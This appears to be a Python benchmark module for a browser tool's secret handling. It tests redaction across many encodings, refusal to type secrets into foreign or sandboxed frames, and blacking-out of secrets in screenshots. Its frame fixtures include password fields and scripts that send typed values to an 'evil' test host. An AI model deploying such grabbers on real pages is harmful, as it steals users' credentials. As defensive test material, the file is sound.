"""Secrets in encodings, frames and pictures: a value may be readable in none of them.

Encodings are looked for in texts as a device reports them. For frames a real browser is to type a secret into fields
whose document belongs to another site, or whose origin only seems to be the page's own; the site counts what reaches
it. For pictures a page shows the value in pure red, in ways that promise to be blacked out: no red pixel may be left.
"""

from __future__ import annotations

import base64
import html
import json
import random
import string
import threading
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any, NamedTuple
from urllib.parse import quote, quote_plus

import numpy as np

from benchmarks.reliability.telling import Figure, say
from handeye.tools import Browser
from handeye.tools.actions import Navigate, Target, Type
from handeye.tools.errors import ActionFailed, ActionRefused
from handeye.tools.secrets.redact import Redactor
from handeye.tools.secrets.store import Secret, Secrets

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

SEED = 20262
#: Values of each kind of letters that are looked for in each encoding.
VALUES = 8
VALUE = "Quarz7Pflaume"


def _json(times: int) -> Callable[[str], str]:
    def encode(value: str) -> str:
        text = value
        for _ in range(times):
            text = json.dumps({"field": text, "more": [1]})
        return text

    return encode


def _between(mark: str) -> Callable[[str], str]:
    return lambda value: mark.join(value)


def _repeated(encode: Callable[[str], str], times: int) -> Callable[[str], str]:
    def repeat(value: str) -> str:
        for _ in range(times):
            value = encode(value)
        return value

    return repeat


def _wide(value: str) -> str:
    return "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in value)


ENCODINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda value: f"it is {value}.",
    "upper case": str.upper,
    "percent": lambda value: quote(value, safe=""),
    "percent three times": _repeated(lambda value: quote(value, safe=""), 3),
    "form": quote_plus,
    "HTML": lambda value: html.escape(value),
    "HTML twice": _repeated(html.escape, 2),
    "HTML numbers": lambda value: "".join(f"&#{ord(each)};" for each in value),
    "HTML hex numbers": lambda value: "".join(f"&#x{ord(each):X};" for each in value),
    "JSON": _json(1),
    "JSON inside JSON": _json(2),
    "JSON four times": _json(4),
    "JavaScript": lambda value: "".join(rf"\u{{{ord(each):x}}}" for each in value),
    "JavaScript bytes": lambda value: "".join(
        rf"\x{ord(each):02x}" if ord(each) < 256 else rf"\u{ord(each):04x}" for each in value
    ),
    "hexadecimal": lambda value: value.encode().hex(),
    "hexadecimal with colons": lambda value: value.encode().hex(":"),
    "base64": lambda value: base64.b64encode(f"user:{value}".encode()).decode(),
    "base64 for addresses": lambda value: base64.urlsafe_b64encode(f"??>{value}~~".encode()).decode(),
    "base64 of MIME": lambda value: base64.encodebytes(f"{'x' * 50}{value}{'y' * 60}".encode()).decode(),
    "base64 of MIME in JSON": lambda value: json.dumps(
        base64.encodebytes(f"{'z' * 51}{value}{'y' * 60}".encode()).decode().replace("\n", "\r\n")
    ),
    "base64 of UTF-16": lambda value: base64.b64encode(f"a={value}".encode("utf-16-le")).decode(),
    "zero-width spaces": _between("\u200b"),
    "soft hyphens": _between("\u00ad"),
    "combining lines": _between("\u0332"),
    "combining grapheme joiners": _between("\u034f"),
    "variation selectors": _between("\ufe0e"),
    "tag characters": _between("\U000e0041"),
    "fillers": _between("\u3164"),
    "full width": _wide,
}


class Tried(NamedTuple):
    """What came of one attempt."""

    kind: str
    name: str
    held: bool
    said: str = ""


def measure() -> dict[str, Any]:
    """All encodings, frames and pictures."""
    tried = [*encodings(), *frames(), *pictures()]
    broke = [each for each in tried if not each.held]
    counts = {kind: sum(each.kind == kind for each in tried) for kind in ("encoding", "frame", "picture")}
    return {
        "what": "a secret in {encoding} encoded texts, {frame} frames and {picture} pictures".format(**counts),
        "seeds": [SEED],
        "figures": {
            "tried": Figure(len(tried), "attempts", "at least 200", len(tried) >= 200),
            "held": Figure(len(tried) - len(broke), "attempts", "all", not broke),
            "broke": Figure(len(broke), "attempts", "0", not broke),
        },
        "details": [f"- {each.kind} {each.name}: {each.said}" for each in broke],
    }


def values(dice: random.Random) -> list[str]:
    """Values as people choose them: letters, digits, signs, spaces, other alphabets."""
    alphabets = (
        string.ascii_letters,
        string.ascii_letters + string.digits,
        string.digits,
        string.ascii_letters + string.punctuation,
        "abc déñøß ÄÖÜ",
        "пароль ключ",
        "秘密鍵パス",
        string.ascii_lowercase + " ",
    )
    made = []
    for alphabet in alphabets:
        value = ""
        while len(value.strip()) < 6:
            value = "".join(dice.choice(alphabet) for _ in range(dice.randint(8, 20))).strip()
        made.append(value)
    return made


def encodings() -> Iterator[Tried]:
    """Each value in each encoding, in the middle of a longer text: nothing of it may be left that gives it back."""
    dice = random.Random(SEED)
    say("  encodings")
    for value in values(dice)[:VALUES]:
        redactor = Redactor({"it": value})
        for name, encode in ENCODINGS.items():
            text = f"before {encode(value)} after"
            shown = redactor.redact(text)
            held = "{{secret:it}}" in shown and not redactor.spans(shown) and _longest(value, shown) < len(value) - 2
            yield Tried("encoding", name, held, f"{value!r} is readable in {shown[:120]!r}")


def _longest(value: str, text: str) -> int:
    """How many letters of the value stand together in the text."""
    folded, wanted = text.casefold(), value.casefold()
    return max(
        (end - start for start in range(len(wanted)) for end in range(start + 1, len(wanted) + 1)
         if wanted[start:end] in folded), default=0,
    )  # fmt: skip


#: A field that sends what it gets to another site. `{evil}` is its address.
GRAB = "<input type=password aria-label=Password oninput=\"new Image().src='{evil}/got?'+this.value\">"

SRCDOC = "<iframe {more} srcdoc='" + html.escape(GRAB) + "'></iframe>"
PAY = "<iframe src={evil}/pay></iframe>"
#: Turns the frame `pay` into about:blank, and puts a field there.
WRITE = """<script>
setTimeout(() => {{ parent.frames.pay.location = "about:blank" }}, 300)
setTimeout(() => {{
  const field = parent.frames.pay.document.createElement("input")
  field.type = "password"
  field.oninput = () => {{ new Image().src = "{evil}/got?" + field.value }}
  parent.frames.pay.document.body.append(field)
}}, 600)
</script>"""
BLOB = "<script>location = URL.createObjectURL(new Blob([`" + GRAB + "`], {{ type: 'text/html' }}))</script>"

#: By name: the page, and pages of the other site by their paths.
FRAMES: dict[str, tuple[str, dict[str, str]]] = {
    "of another site": (PAY, {"/pay": GRAB}),
    "of another site, two deep": (PAY, {"/pay": "<iframe src=/inner></iframe>", "/inner": GRAB}),
    "srcdoc of another site": (PAY, {"/pay": SRCDOC.replace("{more}", "")}),
    "srcdoc in a sandbox": (SRCDOC.replace("{more}", "sandbox=allow-scripts"), {}),
    "data address": ("<iframe src='data:text/html," + quote(GRAB, safe="{}/<>= ") + "'></iframe>", {}),
    "own page in a sandbox": ("<iframe sandbox=allow-scripts src=/grab></iframe>", {}),
    "own page that sandboxes itself": ("<iframe src=/sandboxed></iframe>", {}),
    "blank, written by another site": (
        "<iframe name=pay src={evil}/empty></iframe><iframe src={evil}/ad></iframe>",
        {"/empty": "<p>pay", "/ad": WRITE},
    ),
    "blob of another site": (PAY, {"/pay": BLOB}),
}


def frames() -> Iterator[Tried]:
    """Fields in frames that must not get the secret, and one that must."""
    say("  frames")
    with _site() as own, _site("localhost") as other:
        for name, (page, more) in FRAMES.items():
            evil = other.url
            other.pages = {path: text.format(evil=evil) for path, text in more.items()}
            own.pages = {
                "/": page.format(evil=evil),
                "/grab": GRAB.format(evil=evil),
                "/sandboxed": GRAB.format(evil=evil),
            }
            fields, typed, said = _fill_all(own.url)
            leaked = any(VALUE in each for each in (*other.received, *own.received))
            yield Tried("frame", name, fields > 0 and not typed and not leaked, said)
        own.pages = {"/": "<iframe src=/form></iframe>", "/form": "<input type=password aria-label=Password>"}
        fields, typed, said = _fill_all(own.url)
        yield Tried("frame", "of the own site takes it", fields == typed == 1, said)


def _fill_all(url: str) -> tuple[int, int, str]:
    """Type the secret into every field of a page: how many there are, how many took it, and what was said."""
    typed, said = 0, []
    with Browser(url) as browser:
        browser.secrets = Secrets([Secret("it", VALUE)])
        browser.settle()
        browser.run_script("() => new Promise((done) => setTimeout(done, 900))")
        fields = [each for each in browser.elements() if each.takes_text or each.secret]
        for field in fields:
            target = Target(phrase="field", point=field.box.centre, element=field.id)
            try:
                browser.perform(Type(text="{{secret:it}}", target=target))
                typed += 1
            except (ActionRefused, ActionFailed) as error:
                said.append(str(error)[:150])
        browser.settle()
    return len(fields), typed, f"{len(fields)} fields, {typed} took it; {'; '.join(said)}"


RED = "style='color:#f00;font:26px sans-serif;margin:0'"
#: By name: what a page shows, in red. `{it}` is the value.
SHOWN: dict[str, str] = {
    "text": "<p>It is {it}.</p>",
    "parts of a text": "<p>{a}<b>{b}</b></p>",
    "field": "<input value='{it}' {red}>",
    "text area": "<textarea {red}>{it}</textarea>",
    "list": "<select {red}><option>{it}</select>",
    "list box": "<select size=4><option>one<option {red}>{it}<option>two</select>",
    "list box for several": "<select multiple size=4><optgroup label='{it}' {red}><option {red}>{it}</select>",
    "combining marks": "<p>{combined}</p>",
    "invisible characters": "<p>{hidden}</p>",
    "editable text": "<div contenteditable>{it}</div>",
    "drawing": "<svg width=500 height=60><text y=40 fill=red font-size=26>{it}</text></svg>",
    "turned text": "<p style='transform:rotate(8deg);width:400px;margin:60px'>{it}</p>",
    "zoomed text": "<div style='zoom:1.7'><p>{it}</p></div>",
    "scaled text": "<div style='transform:scale(1.6);transform-origin:0 0'><p>{it}</p></div>",
    "moving text": "<p id=m style='position:absolute;white-space:nowrap'>{it}</p><script>let x = 0, way = 9; "
    "setInterval(() => {{ x += way; if (x > 700 || x < 0) way = -way; m.style.left = x + 'px' }}, 16)</script>",
    "scrolling text": "<marquee width=900>{it}</marquee>",
    "text in eight frames": "{deep}",
    "text in the last of ninety frames": "{many}",
    "text in a shadow tree": "<div id=h></div><script>h.attachShadow({{ mode: 'closed' }}).innerHTML = "
    '"<p {red}>{it}</p>"</script>',
}  # fmt: skip


def page(name: str) -> str:
    """A page that shows the value in red, and nothing else."""
    style = "<!doctype html><meta charset=utf-8><style>body,p{color:#f00;font:26px sans-serif}iframe{border:0}</style>"
    deep = f"{style}<p>{VALUE}</p>"
    for _ in range(8):
        deep = f'<iframe width=900 height=180 srcdoc="{html.escape(deep)}"></iframe>'
    small = "".join("<iframe width=8 height=8 srcdoc=x></iframe>" for _ in range(89))
    last = f'<iframe width=500 height=80 srcdoc="{html.escape(f"{style}<p>{VALUE}</p>")}"></iframe>'
    shown = SHOWN[name].format(
        it=VALUE, a=VALUE[:5], b=VALUE[5:], red=RED.replace("'", '"') if "shadow" not in name else "style='color:#f00'",
        combined="\u0332".join(VALUE), hidden="\u2060".join(VALUE), deep=deep, many=small + last,
    )  # fmt: skip
    return style + shown


def pictures() -> Iterator[Tried]:
    """Every page at device scale 1 and 2: no red pixel may be left."""
    say("  pictures")
    with _site() as own:
        own.pages = {f"/{number}": page(name) for number, name in enumerate(SHOWN)}
        for scale in (1.0, 2.0):
            with Browser(f"{own.url}/0", scale=scale) as browser:
                for number, name in enumerate(SHOWN):
                    browser.perform(Navigate(url=f"{own.url}/{number}"))
                    browser.run_script("() => new Promise((done) => setTimeout(done, 250))")
                    browser.secrets = Secrets()
                    before = red(browser)
                    browser.secrets = Secrets([Secret("it", VALUE)])
                    after = max(red(browser) for _ in range(3))
                    said = f"{after} of {before} red pixels are left at scale {scale:g}"
                    yield Tried("picture", name, before > 100 and after == 0, said)


def red(browser: Browser) -> int:
    """Red pixels of a picture of the page."""
    pixels = np.asarray(browser.capture().image.convert("RGB")).astype(int)
    return int(((pixels[..., 0] > 170) & (pixels[..., 1] < 110) & (pixels[..., 2] < 110)).sum())


class Site:
    """A server with pages, and the addresses that it was asked for."""

    def __init__(self, url: str) -> None:
        self.url = url
        self.pages: dict[str, str] = {}
        self.received: list[str] = []


@contextmanager
def _site(host: str = "127.0.0.1") -> Iterator[Site]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.received.append(self.path)
            text = site.pages.get(self.path, "")
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            if self.path == "/sandboxed":
                self.send_header("Content-Security-Policy", "sandbox allow-scripts")
            self.end_headers()
            with suppress(OSError):
                self.wfile.write(text.encode())

        def log_message(self, *_: object) -> None:
            """Quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    site = Site(f"http://{host}:{server.server_port}")
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield site
    finally:
        server.shutdown()
        server.server_close()
